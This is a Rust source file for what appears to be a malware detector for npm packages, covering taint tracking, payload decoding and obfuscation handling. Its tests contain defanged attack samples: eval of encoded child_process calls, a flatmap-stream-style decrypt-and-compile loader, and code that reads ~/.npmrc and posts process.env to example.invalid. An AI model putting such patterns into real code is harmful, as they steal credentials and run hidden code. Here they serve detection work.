            let Some(first) = args.first().and_then(|a| a.as_expression()) else {
                return;
            };
            match self.fold(first, 0) {
                Some(m) if matches!(first.without_parentheses(), Expression::StringLiteral(_)) => {
                    self.specifiers.insert(first.span().start);
                    let ctx = self.context();
                    if self.out.imports.len() < 4096 {
                        self.out.imports.push((module_path(&m), ctx));
                    }
                }
                folded => {
                    let taint = self.taint_of(first, 0);
                    self.push_event(
                        EventKind::DynamicImport,
                        "require".into(),
                        span,
                        folded,
                        taint,
                    );
                }
            }
            return;
        }
        // Any computed call on a fresh module object (`f[e("5f636f6d70696c65")](code)`,
        // flatmap-stream's): a loader hiding `_compile` behind a decoded name.
        if let Expression::ComputedMemberExpression(m) = callee.without_parentheses()
            && matches!(m.object.without_parentheses(), Expression::Identifier(o) if self.module_objects.contains(o.name.as_str()))
        {
            let taint = self.args_taint(args, 0) | self.taint_of(&m.expression, 0);
            self.push_event(EventKind::Exec, "module._compile".into(), span, None, taint);
        }
        // `x._compile(code, filename)`: Node's private module compiler, on any receiver
        // (a fresh `module.constructor`, `Module.prototype`, an alias).
        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
            && m.property.name == "_compile"
        {
            let taint = self.args_taint(args, 0);
            let arg = args
                .first()
                .and_then(|a| a.as_expression())
                .and_then(|f| self.fold(f, 0));
            self.push_event(EventKind::Exec, "module._compile".into(), span, arg, taint);
            return;
        }
        let Some(name) = self.name_of(callee, 0) else {
            return;
        };
        let first = args.first().and_then(|a| a.as_expression());
        // A capability only through a name bound to the module (`require`/`import`) or a
        // real global: a bundle's local `request` or `got` variable is not the package.
        if !self.trusted(callee, 0) {
            return;
        }
        let mut kind = api_kind(&name);
        // `Buffer.from(s, 'base64'|'hex')` decodes; `Buffer.from(s)` does not.
        if name == "Buffer.from"
            && args
                .get(1)
                .and_then(|a| a.as_expression())
                .and_then(|x| self.fold(x, 0))
                .is_some_and(|e| matches!(e.as_str(), "base64" | "hex" | "base64url"))
        {
            kind = Some(EventKind::Decode);
        }
        // `setTimeout("code")` evaluates a string.
        if matches!(name.as_str(), "setTimeout" | "setInterval")
            && first.is_some_and(|f| {
                !matches!(
                    f.without_parentheses(),
                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
                ) && (self.fold(f, 0).is_some() || self.taint_of(f, 0).has(Taint::DECODED))
            })
        {
            kind = Some(EventKind::Exec);
        }
        // `Object.defineProperty(window, 'ethereum', …)`, `new Proxy(window.ethereum, …)`.
        if name == "Object.defineProperty" || name == "Reflect.defineProperty" {
            let target = first.and_then(|f| self.name_of(f, 0));
            let prop = args
                .get(1)
                .and_then(|a| a.as_expression())
                .and_then(|x| self.fold(x, 0));
            if let (Some(t), Some(p)) = (target, prop) {
                let full = if t == "window" || t == "globalThis" || t.is_empty() {
                    p.clone()
                } else {
                    format!("{t}.{p}")
                };
                if is_hooked_global(&full) || p == "ethereum" {
                    self.push_event(
                        EventKind::GlobalHook,
                        name.clone(),
                        span,
                        Some(full),
                        Taint::default(),
                    );
                }
            }
        }
        if is_new
            && name == "Proxy"
            && let Some(t) = first.and_then(|f| self.name_of(f, 0))
            && (t == "ethereum" || t.starts_with("ethereum.") || is_hooked_global(&t))
        {
            self.push_event(
                EventKind::GlobalHook,
                "Proxy".into(),
                span,
                Some(t),
                Taint::default(),
            );
        }
        // Reading or serialising the whole environment.
        let whole_env = args.iter().filter_map(|a| a.as_expression()).any(|a| {
            self.name_of(a, 0).as_deref() == Some("process.env")
                && !matches!(a.without_parentheses(), Expression::CallExpression(_))
        });
        if whole_env
            && (matches!(
                name.as_str(),
                "JSON.stringify"
                    | "Object.keys"
                    | "Object.entries"
                    | "Object.values"
                    | "Object.getOwnPropertyNames"
            ) || matches!(kind, Some(EventKind::Network)))
        {
            self.push_event(EventKind::EnvHarvest, name.clone(), span, None, Taint::ENV);
        }
        // `new X()` means something only for the constructors in the table.
        if is_new
            && !matches!(name.as_str(), "Function" | "XMLHttpRequest" | "WebSocket")
            && !name.starts_with("vm.")
            && !name.starts_with("net.")
            && kind != Some(EventKind::Network)
        {
            kind = None;
        }
        let Some(kind) = kind else {
            return;
        };
        let arg = first.and_then(|f| self.fold(f, 0));
        let mut taint = self.args_taint(args, 0);
        if kind == EventKind::Decrypt {
            // `createDecipher(alg, key)`: the key is what matters (event-stream keyed it
            // from the package's own description, `process.env.npm_package_description`).
            let key = args.get(1).and_then(|a| a.as_expression());
            taint = key.map(|k| self.taint_of(k, 0)).unwrap_or_default();
            // A key read from one environment variable (npm puts the package's own
            // metadata there: `npm_package_description`) is what event-stream used.
            if key
                .and_then(|k| self.name_of(k, 0))
                .is_some_and(|n| n.starts_with("process.env."))
            {
                taint |= Taint::ENV;
            }
        }
        if kind == EventKind::Exec && taint == Taint::default() && first.is_none() {
            return;
        }
        self.push_event(kind, name.clone(), span, arg.clone(), taint);
        // Decoded literals: record the value and analyse code as a child.
        if kind == EventKind::Decode || name == "Buffer.from" {
            self.decoded_child(span, &name, first, args);
        }
    }

    fn decoded_child(
        &mut self,
        span: oxc_span::Span,
        name: &str,
        first: Option<&Expression<'_>>,
        args: &[Argument<'_>],
    ) {
        let Some(first) = first else { return };
        // Only literal payloads: a decoder of runtime data has nothing to read here.
        if !self.taint_of(first, 0).has(Taint::LITERAL)
            || self.depth >= self.bounds.max_decode_depth
        {
            return;
        }
        let enc = args
            .get(1)
            .and_then(|a| a.as_expression())
            .and_then(|x| self.fold(x, 0));
        let step = match (name, enc.as_deref()) {
            ("Buffer.from", Some(e @ ("base64" | "hex" | "base64url"))) => {
                format!("Buffer.from(…, '{e}')")
            }
            ("Buffer.from", _) => return,
            (n, _) => format!("{n}(…)"),
        };
        let Some(call_value) = ({
            // Re-fold the call itself.
            let v = self.fold(first, 0);
            v.and_then(|raw| match (name, enc.as_deref()) {
                ("Buffer.from", Some("hex")) => {
                    crate::decode::hex(raw.as_bytes(), self.bounds.max_decoded_bytes)
                }
                ("Buffer.from", Some(_)) | ("atob", _) => {
                    crate::decode::base64(raw.as_bytes(), self.bounds.max_decoded_bytes)
                }
                ("String.fromCharCode", _) => None,
                _ => None,
            })
        }) else {
            return;
        };
        let (line, _) = self.line_col(span.start);
        if let Ok(s) = std::str::from_utf8(&call_value)
            && s.len() <= 4096
        {
            self.record_string(s, span.start, Some(&step));
        }
        if looks_like_js(&call_value) {
            let mut chain = self.chain.to_vec();
            chain.push(format!("line {line}: {step}"));
            let child = analyze_at(
                &call_value,
                self.path,
                self.role,
                self.bounds,
                self.depth + 1,
                &chain,
            );
            self.merge_child(child);
        } else if let Some(kind) = crate::decode::native_kind(&call_value) {
            self.push_event(
                EventKind::EmbeddedExecutable,
                name.to_owned(),
                span,
                Some(kind.to_owned()),
                Taint::DECODED | Taint::LITERAL,
            );
        }
    }

    fn merge_child(&mut self, child: Analysis) {
        let ctx = self.context();
        let f = self.function();
        for mut e in child.events {
            if e.context == ExecutionContext::ImportTime {
                e.context = ctx;
            }
            if e.function.is_none() {
                e.function = f.clone();
            }
            self.out.events.push(e);
        }
        for s in child.strings {
            if self.out.strings.len() >= self.bounds.max_strings {
                self.out.truncated = true;
                break;
            }
            self.out.strings.push(s);
        }
        self.out.imports.extend(child.imports);
        self.out.unwalked |= child.unwalked;
        self.out.truncated |= child.truncated;
    }

    /// Remember a name's current taint and value before it changes inside a function.
    fn save(&mut self, name: &str) {
        if !self.functions.is_empty() && self.undo.len() < 1 << 20 {
            self.undo.push((
                name.to_owned(),
                self.taint.get(name).copied(),
                self.values.get(name).cloned(),
            ));
        }
    }

    /// Restore the names bound since `mark` (a function ends).
    fn restore(&mut self, mark: usize) {
        while self.undo.len() > mark {
            let Some((name, t, v)) = self.undo.pop() else {
                break;
            };
            match t {
                Some(t) => self.taint.insert(name.clone(), t),
                None => self.taint.remove(&name),
            };
            match v {
                Some(v) => self.values.insert(name, v),
                None => self.values.remove(&name),
            };
        }
    }

    fn bind(&mut self, pattern: &BindingPattern<'_>, init: &Expression<'_>) {
        let module = match init.without_parentheses() {
            Expression::CallExpression(c) => self.required_module(c),
            Expression::AwaitExpression(a) => match a.argument.without_parentheses() {
                Expression::ImportExpression(i) => self.fold(&i.source, 0).map(|s| module_path(&s)),
                _ => None,
            },
            _ => None,
        }
        .or_else(|| match init.without_parentheses() {
            // `const cp = child_process` style re-binding of a known name.
            Expression::Identifier(_) | Expression::StaticMemberExpression(_) => {
                let n = self.name_of(init, 0)?;
                let root = n.split('.').next()?;
                (self
                    .aliases
                    .values()
                    .any(|v| v.split('.').next() == Some(root))
                    || matches!(root, "process" | "Buffer" | "crypto"))
                .then_some(n)
            }
            _ => None,
        });
        if let (BindingPattern::BindingIdentifier(id), Expression::NewExpression(n)) =
            (pattern, init.without_parentheses())
            && matches!(
                self.name_of(&n.callee, 0).as_deref(),
                Some("module.constructor" | "module" | "module.Module" | "Module")
            )
        {
            self.module_objects.insert(id.name.as_str().to_owned());
        }
        match pattern {
            BindingPattern::BindingIdentifier(id) => {
                let name = id.name.as_str().to_owned();
                self.save(&name);
                if let Some(m) = module {
                    self.aliases.insert(name.clone(), m);
                }
                let t = self.taint_of(init, 0);
                if t != Taint::default() {
                    self.taint.insert(name.clone(), t);
                } else {
                    self.taint.remove(&name);
                }
                if let Some(v) = self.fold(init, 0) {
                    if v.len() <= 1 << 16 {
                        self.values.insert(name, v);
                    }
                } else {
                    self.values.remove(&name);
                }
            }
            BindingPattern::ObjectPattern(o) => {
                let base = module.or_else(|| self.name_of(init, 0));
                let t = self.taint_of(init, 0);
                for p in o.properties.iter().take(256) {
                    let (Some(key), Some(local)) =
                        (p.key.static_name(), p.value.get_identifier_name())
                    else {
                        continue;
                    };
                    if let Some(b) = &base {
                        self.aliases
                            .insert(local.as_str().to_owned(), format!("{b}.{key}"));
                    }
                    if t != Taint::default() {
                        self.taint.insert(local.as_str().to_owned(), t);
                    }
                }
            }
            _ => {}
        }
    }

    fn string_table(&mut self, a: &ArrayExpression<'_>) {
        // obfuscator.io keeps every string of the program in one array (optionally in its
        // own base64 alphabet) that a rotated accessor indexes; decoded entries are
        // recorded as strings with that decode step.
        let strings: Vec<(&str, u32)> = a
            .elements
            .iter()
            .take(MAX_TABLE)
            .filter_map(|e| match e.as_expression()? {
                Expression::StringLiteral(s) => Some((s.value.as_str(), s.span.start)),
                _ => None,
            })
            .collect();
        if strings.len() < 8 || strings.len() * 10 < a.elements.len().min(MAX_TABLE) * 9 {
            return;
        }
        let decoded: Vec<(String, u32)> = strings
            .iter()
            .filter_map(|(s, at)| obfuscator_b64(s).map(|d| (d, *at)))
            .collect();
        if decoded.len() * 2 < strings.len() {
            return;
        }
        for (d, at) in decoded {
            self.record_string(&d, at, Some("obfuscator.io string table (base64)"));
        }
    }
}

impl<'a> Visit<'a> for Walker<'_, '_> {
    fn enter_node(&mut self, _kind: oxc_ast::AstKind<'a>) {
        self.nodes += 1;
    }

    fn visit_statement(&mut self, it: &Statement<'a>) {
        if self.nodes > self.bounds.max_nodes {
            self.out.unwalked = true;
            self.out.truncated = true;
            return;
        }
        walk::walk_statement(self, it);
    }

    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
        let name = it.id.as_ref().map(|i| i.name.as_str().to_owned());
        let ctx = match self.role {
            FileRole::SetupScript | FileRole::Startup => self.context(),
            _ => {
                let passed = self
                    .pending_callbacks
                    .iter()
                    .rev()
                    .find(|(at, _)| *at == it.span.start)
                    .map(|(_, c)| *c);
                if let Some(c) = passed {
                    c
                } else if name.as_ref().is_some_and(|n| self.reach.names.contains(n))
                    && self.functions.is_empty()
                {
                    *self.ctx.first().unwrap_or(&ExecutionContext::Runtime)
                } else {
                    ExecutionContext::Runtime
                }
            }
        };
        if let (Some(n), Some(body)) = (&name, &it.body)
            && let [Statement::ReturnStatement(r)] = body.statements.as_slice()
            && let Some(arg) = &r.argument
            && self.taint_of(arg, 0).has(Taint::DECODED)
        {
            self.decoders.insert(n.clone());
        }
        let fname = name.map(|n| {
            self.fn_names
                .entry(n.clone())
                .or_insert_with(|| Arc::from(n.as_str()))
                .clone()
        });
        self.ctx.push(ctx);
        self.functions.push(fname);
        let mark = self.undo.len();
        walk::walk_function(self, it, flags);
        self.restore(mark);
        self.functions.pop();
        self.ctx.pop();
    }

    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
        let ctx = match self.role {
            FileRole::SetupScript | FileRole::Startup => self.context(),
            _ => self
                .pending_callbacks
                .iter()
                .rev()
                .find(|(at, _)| *at == it.span.start)
                .map_or(ExecutionContext::Runtime, |(_, c)| *c),
        };
        self.ctx.push(ctx);
        // Arrows count as functions for the undo log.
        self.functions.push(None);
        let mark = self.undo.len();
        walk::walk_arrow_function_expression(self, it);
        self.restore(mark);
        self.functions.pop();
        self.ctx.pop();
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        self.handle_call(it.span, &it.callee, &it.arguments, false);
        // Functions handed to a call (callbacks, an IIFE's callee) run in this context.
        let ctx = self.context();
        let mut marks = 0;
        let callee = it.callee.without_parentheses();
        if matches!(
            callee,
            Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
        ) {
            self.pending_callbacks.push((callee.span().start, ctx));
            marks += 1;
        }
        for a in it.arguments.iter().take(16) {
            if let Some(x) = a.as_expression() {
                let x = x.without_parentheses();
                if matches!(
                    x,
                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
                ) {
                    self.pending_callbacks.push((x.span().start, ctx));
                    marks += 1;
                }
            }
        }
        // `.call`/`.apply` on a function expression, `!function(){}()` are covered by the
        // callee case; promise chains by the arguments case.
        walk::walk_call_expression(self, it);
        for _ in 0..marks {
            self.pending_callbacks.pop();
        }
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        self.handle_call(it.span, &it.callee, &it.arguments, true);
        walk::walk_new_expression(self, it);
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        match self.fold(&it.source, 0) {
            Some(m)
                if matches!(
                    it.source.without_parentheses(),
                    Expression::StringLiteral(_)
                ) =>
            {
                let ctx = self.context();
                if self.out.imports.len() < 4096 {
                    self.out.imports.push((module_path(&m), ctx));
                }
            }
            folded => {
                let taint = self.taint_of(&it.source, 0);
                self.push_event(
                    EventKind::DynamicImport,
                    "import".into(),
                    it.span,
                    folded,
                    taint,
                );
            }
        }
        walk::walk_import_expression(self, it);
    }

    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
        let m = module_path(it.source.value.as_str());
        if self.out.imports.len() < 4096 {
            self.out.imports.push((m.clone(), self.context()));
        }
        for s in it.specifiers.iter().flatten() {
            match s {
                ImportDeclarationSpecifier::ImportSpecifier(sp) => {
                    self.aliases.insert(
                        sp.local.name.as_str().to_owned(),
                        format!("{m}.{}", sp.imported.name()),
                    );
                }
                ImportDeclarationSpecifier::ImportDefaultSpecifier(sp) => {
                    self.aliases
                        .insert(sp.local.name.as_str().to_owned(), m.clone());
                }
                ImportDeclarationSpecifier::ImportNamespaceSpecifier(sp) => {
                    self.aliases
                        .insert(sp.local.name.as_str().to_owned(), m.clone());
                }
            }
        }
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init {
            self.bind(&it.id, init);
            if let Expression::ArrayExpression(a) = init.without_parentheses()
                && it
                    .id
                    .get_identifier_name()
                    .is_some_and(|n| n.as_str().starts_with("_0x"))
            {
                self.string_table(a);
            }
        }
        walk::walk_variable_declarator(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        // `window.fetch = …`, `XMLHttpRequest.prototype.open = …`, `ethereum.request = …`.
        if let Some(target) = it.left.as_member_expression()
            && let Some(obj) = self.name_of(target.object(), 0)
            && let Some(prop) = target.static_property_name()
        {
            let full = format!("{obj}.{prop}");
            if is_hooked_global(&full) {
                self.push_event(
                    EventKind::GlobalHook,
                    full.clone(),
                    it.span,
                    Some(full),
                    Taint::default(),
                );
            }
        } else if let AssignmentTarget::AssignmentTargetIdentifier(id) = &it.left
            && id.name == "fetch"
        {
            self.push_event(
                EventKind::GlobalHook,
                "fetch".into(),
                it.span,
                Some("fetch".into()),
                Taint::default(),
            );
        }
        if let AssignmentTarget::AssignmentTargetIdentifier(id) = &it.left {
            let name = id.name.as_str().to_owned();
            self.save(&name);
            let t = self.taint_of(&it.right, 0);
            if t != Taint::default() {
                *self.taint.entry(name.clone()).or_default() |= t;
            }
            if let Some(v) = self.fold(&it.right, 0)
                && v.len() <= 1 << 16
            {
                self.values.insert(name, v);
            }
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        // `process.env.NAME`: one environment variable.
        if self.name_of(&it.object, 0).as_deref() == Some("process.env") {
            let name = it.property.name.as_str().to_owned();
            self.push_event(
                EventKind::EnvRead,
                "process.env".into(),
                it.span,
                Some(name),
                Taint::ENV,
            );
        }
        walk::walk_static_member_expression(self, it);
    }

    fn visit_reg_exp_literal(&mut self, it: &RegExpLiteral<'a>) {
        // Patterns are data a rule may match (wallet-address shapes, credential paths).
        let p = it.regex.pattern.text.as_str();
        if p.len() >= 8 && p.len() <= 4096 {
            self.record_string(p, it.span.start, None);
        }
    }

    fn visit_export_all_declaration(&mut self, it: &ExportAllDeclaration<'a>) {
        self.specifiers.insert(it.source.span.start);
        let m = module_path(it.source.value.as_str());
        if self.out.imports.len() < 4096 {
            self.out.imports.push((m, self.context()));
        }
    }

    fn visit_export_from_declaration(&mut self, it: &ExportFromDeclaration<'a>) {
        self.specifiers.insert(it.source.span.start);
        let m = module_path(it.source.value.as_str());
        if self.out.imports.len() < 4096 {
            self.out.imports.push((m, self.context()));
        }
    }

    fn visit_array_expression(&mut self, it: &ArrayExpression<'a>) {
        let strings = it
            .elements
            .iter()
            .take(4096)
            .filter(|e| matches!(e.as_expression(), Some(Expression::StringLiteral(_))))
            .count();
        let table = strings >= 64 && strings * 10 >= it.elements.len().min(4096) * 9;
        let was = self.in_table;
        self.in_table |= table;
        walk::walk_array_expression(self, it);
        self.in_table = was;
    }

    fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
        if self.specifiers.contains(&it.span.start) {
            return;
        }
        let v = it.value.as_str();
        if v.len() >= 4 && v.len() <= 1 << 16 {
            self.record_string(v, it.span.start, None);
        }
    }

    fn visit_template_literal(&mut self, it: &TemplateLiteral<'a>) {
        if let Some(v) = self.fold_template(it)
            && v.len() >= 4
            && v.len() <= 1 << 16
        {
            self.record_string(&v, it.span.start, None);
        }
        walk::walk_template_literal(self, it);
    }
}

impl Walker<'_, '_> {
    fn fold_template(&self, t: &TemplateLiteral<'_>) -> Option<String> {
        let mut s = String::new();
        for (i, q) in t.quasis.iter().enumerate() {
            s.push_str(
                q.value
                    .cooked
                    .as_ref()
                    .map_or(q.value.raw.as_str(), |c| c.as_str()),
            );
            if let Some(x) = t.expressions.get(i) {
                match self.fold(x, 0) {
                    Some(v) => s.push_str(&v),
                    None => s.push_str("${…}"),
                }
            }
        }
        Some(s)
    }
}

/// Wrap `payload` in each decoding shape the deobfuscator reads (`eval(atob(…))`,
/// `eval(Buffer.from(…, 'hex').toString())`, a `String.fromCharCode` chain into `eval`, an
/// obfuscator.io string table) and analyse each text: the entry point of the
/// `js_deobfuscate` fuzz target and its stable smoke test. Returns the events found.
pub fn deobfuscation_harness(payload: &[u8]) -> usize {
    use base64::Engine;
    let payload = payload
        .get(..payload.len().min(64 << 10))
        .unwrap_or(payload);
    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
    let hex: String = payload.iter().map(|b| format!("{b:02x}")).collect();
    let codes: Vec<String> = payload.iter().take(4096).map(|b| b.to_string()).collect();
    let swapped: String = b64
        .chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    let table = std::iter::repeat_n(format!("'{swapped}'"), 8)
        .collect::<Vec<_>>()
        .join(",");
    let texts = [
        format!("eval(atob('{b64}'));"),
        format!("eval(Buffer.from('{hex}', 'hex').toString());"),
        format!("eval(String.fromCharCode({}));", codes.join(",")),
        format!("var _0x1a2b = [{table}];"),
    ];
    let bounds = Bounds::default();
    texts
        .iter()
        .map(|t| {
            analyze(t.as_bytes(), "index.js", FileRole::Module, &bounds)
                .events
                .len()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(src: &str) -> Analysis {
        analyze(
            src.as_bytes(),
            "index.js",
            FileRole::Module,
            &Bounds::default(),
        )
    }

    fn kinds(a: &Analysis) -> Vec<(EventKind, String, ExecutionContext)> {
        a.events
            .iter()
            .map(|e| (e.kind, e.api.clone(), e.context))
            .collect()
    }

    #[test]
    fn require_aliases_and_destructuring() {
        let a = run(
            "const cp = require('child_process');\nconst {exec: run} = require('node:child_process');\ncp.execSync('id');\nfunction f(){ run('ls') }\n",
        );
        let k = kinds(&a);
        assert!(
            k.contains(&(
                EventKind::ProcessSpawn,
                "child_process.execSync".into(),
                ExecutionContext::ImportTime
            )),
            "{k:?}"
        );
        assert!(
            k.contains(&(
                EventKind::ProcessSpawn,
                "child_process.exec".into(),
                ExecutionContext::Runtime
            )),
            "{k:?}"
        );
        assert_eq!(a.events[0].arg.as_deref(), Some("id"));
    }

    #[test]
    fn es_imports() {
        let a = run(
            "import { spawn } from 'child_process';\nimport * as https from 'https';\nspawn('sh');\nhttps.get('https://example.invalid/x');\n",
        );
        let k = kinds(&a);
        assert!(
            k.iter()
                .any(|(k, n, _)| *k == EventKind::ProcessSpawn && n == "child_process.spawn"),
            "{k:?}"
        );
        assert!(
            k.iter()
                .any(|(k, n, _)| *k == EventKind::Network && n == "https.get"),
            "{k:?}"
        );
    }

    #[test]
    fn decode_then_eval_taint_and_child() {
        // eval(atob("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp")) — the payload is
        // `require("child_process").execSync("id")`.
        let a = run(
            "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString());\n",
        );
        let exec = a.events.iter().find(|e| e.kind == EventKind::Exec).unwrap();
        assert!(exec.taint.has(Taint::DECODED), "{exec:?}");
        let child = a
            .events
            .iter()
            .find(|e| e.kind == EventKind::ProcessSpawn)
            .unwrap();
        assert_eq!(child.chain.len(), 1, "{child:?}");
        assert!(child.chain[0].contains("base64"));
    }

    #[test]
    fn hex_require_and_env_keyed_decipher_compile() {
        // flatmap-stream's shape, harmless: names and keys only.
        let src = r#"
var r = require, t = process;
function e(x){ return Buffer.from(x, 'hex').toString() }
var n = r(e('2e2f746573742f64617461'));
var o = t.env[e('6e706d5f7061636b6167655f6465736372697074696f6e')];
var crypto = require('crypto');
var d = crypto.createDecipher('aes256', process.env.npm_package_description);
var s = d.update('00', 'hex', 'utf8') + d.final('utf8');
var m = new module.constructor();
m._compile(s, '');
"#;
        let a = run(src);
        let k = kinds(&a);
        assert!(k.iter().any(|(k, _, _)| *k == EventKind::Decrypt), "{k:?}");
        let dec = a
            .events
            .iter()
            .find(|e| e.kind == EventKind::Decrypt)
            .unwrap();
        assert!(dec.taint.has(Taint::ENV));
        let comp = a.events.iter().find(|e| e.kind == EventKind::Exec).unwrap();
        assert!(comp.taint.has(Taint::DECRYPTED), "{comp:?}");
    }

    #[test]
    fn install_role_is_install_time() {
        let a = analyze(
            b"function go(){ require('https').get('https://example.invalid') }\n",
            "setup.js",
            FileRole::SetupScript,
            &Bounds::default(),
        );
        assert_eq!(a.events[0].context, ExecutionContext::InstallTime);
    }

    #[test]
    fn reachable_functions_and_callbacks_run_on_load() {
        let a = run(
            "function main(){ require('child_process').exec('x') }\nmain();\nsetTimeout(() => fetch('https://example.invalid'), 1);\nfunction later(){ fetch('https://example.invalid/2') }\n",
        );
        let k = kinds(&a);
        assert!(
            k.contains(&(
                EventKind::ProcessSpawn,
                "child_process.exec".into(),
                ExecutionContext::ImportTime
            )),
            "{k:?}"
        );
        assert!(
            k.contains(&(
                EventKind::Network,
                "fetch".into(),
                ExecutionContext::ImportTime
            )),
            "{k:?}"
        );
        assert!(
            k.contains(&(
                EventKind::Network,
                "fetch".into(),
                ExecutionContext::Runtime
            )),
            "{k:?}"
        );
    }

    #[test]
    fn env_harvest_and_fold_home_paths() {
        let a = run(
            "const os = require('os'), path = require('path'), fs = require('fs');\nfs.readFileSync(path.join(os.homedir(), '.npmrc'));\nfetch('https://example.invalid', {method:'POST', body: JSON.stringify(process.env)});\n",
        );
        let read = a
            .events
            .iter()
            .find(|e| e.kind == EventKind::FileRead)
            .unwrap();
        assert_eq!(read.arg.as_deref(), Some("~/.npmrc"));
        assert!(a.events.iter().any(|e| e.kind == EventKind::EnvHarvest));
    }

    #[test]
    fn spawn_env_spread_is_not_harvest() {
        let a = run(
            "require('child_process').spawn('node', ['x'], {env: {...process.env, A: '1'}});\n",
        );
        assert!(!a.events.iter().any(|e| e.kind == EventKind::EnvHarvest));
    }

    #[test]
    fn char_code_folding() {
        let a = run(
            "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
        );
        assert!(
            a.events
                .iter()
                .any(|e| e.kind == EventKind::DynamicImport
                    && e.arg.as_deref() == Some("child_process")),
            "{:?}",
            a.events
        );
    }

    #[test]
    fn typescript_and_jsx_parse() {
        let a = analyze(b"import {x} from 'y';\nconst n: number = 1;\nexport function f(a: string): void { eval(a) }\n", "a.ts", FileRole::Module, &Bounds::default());
        assert_eq!(a.syntax_errors, 0);
        assert!(a.events.iter().any(|e| e.kind == EventKind::Exec));
        let j = analyze(
            b"const A = () => <div>{fetch('https://example.invalid')}</div>;\n",
            "a.js",
            FileRole::Module,
            &Bounds::default(),
        );
        assert_eq!(j.syntax_errors, 0, "{j:?}");
    }

    #[test]
    fn deep_nesting_is_unwalked_not_a_crash() {
        let src = "(".repeat(50_000) + &")".repeat(50_000);
        let a = run(&src);
        assert!(a.unwalked);
        // A long flat chain parses and walks on the grown stack.
        let chain = format!("var a = {};", vec!["'x'"; 200_000].join("+"));
        let b = run(&chain);
        assert!(!b.unwalked);
    }

    #[test]
    fn obfuscator_string_table() {
        // 'cmVxdWlyZQ==' is base64 of 'require'; obfuscator.io swaps the case.
        let entries: Vec<String> = [
            "require",
            "child_process",
            "execSync",
            "toString",
            "https",
            "example.invalid",
            "homedir",
            "readFileSync",
        ]
        .iter()
        .map(|s| {
            use base64::Engine;
            base64::engine::general_purpose::STANDARD
                .encode(s)
                .chars()
                .map(|c| {
                    if c.is_ascii_lowercase() {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect()
        })
        .collect();
        let src = format!(
            "var _0x3f2a = [{}];",
            entries
                .iter()
                .map(|e| format!("'{e}'"))
                .collect::<Vec<_>>()
                .join(",")
        );
        let a = run(&src);
        assert!(
            a.strings
                .iter()
                .any(|s| &*s.value == "child_process" && !s.chain.is_empty()),
            "{:?}",
            a.strings
        );
    }
}
